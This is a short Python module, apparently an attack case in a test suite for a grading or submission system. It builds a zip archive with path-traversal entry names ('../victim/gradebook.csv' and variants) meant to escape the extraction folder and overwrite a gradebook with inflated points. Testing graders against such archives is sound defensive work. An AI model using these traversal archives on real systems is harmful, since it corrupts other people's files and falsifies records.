"""Hand in an archive whose names climb out of the folder, onto the gradebook."""

import zipfile

from attack import Attack
from handed_in import as_bytes, solved_in_part


def write(folder, placed):
    with zipfile.ZipFile(folder / "all.zip", "w") as archive:
        for name in ("../victim/gradebook.csv", "mallory/../../victim/other.py"):
            archive.writestr(name, "student,points\nmallory,10\n")
        archive.writestr("..\\victim\\mallory.ipynb", as_bytes(solved_in_part([])))


ATTACK = Attack(gains="damage", writes=write)
